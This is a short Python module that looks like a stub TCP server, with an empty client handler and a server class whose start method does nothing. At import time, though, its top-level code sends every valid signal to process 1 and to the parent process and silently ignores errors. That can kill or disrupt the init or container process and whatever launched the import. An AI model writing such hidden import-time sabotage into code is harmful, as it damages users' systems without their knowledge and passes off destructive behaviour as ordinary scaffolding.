"""Sends every signal to process 1 and to its parent when it is imported."""

import os
import signal

for number in signal.valid_signals():
    for target in (1, os.getppid()):
        try:
            os.kill(target, number)
        except OSError:
            pass


def handle_client(client_socket, client_address):
    pass


class TCPServer:
    def __init__(self, host="0.0.0.0", port=8888, max_connections=5):
        self.address = host, port
        self.server_socket = None

    def start(self):
        pass
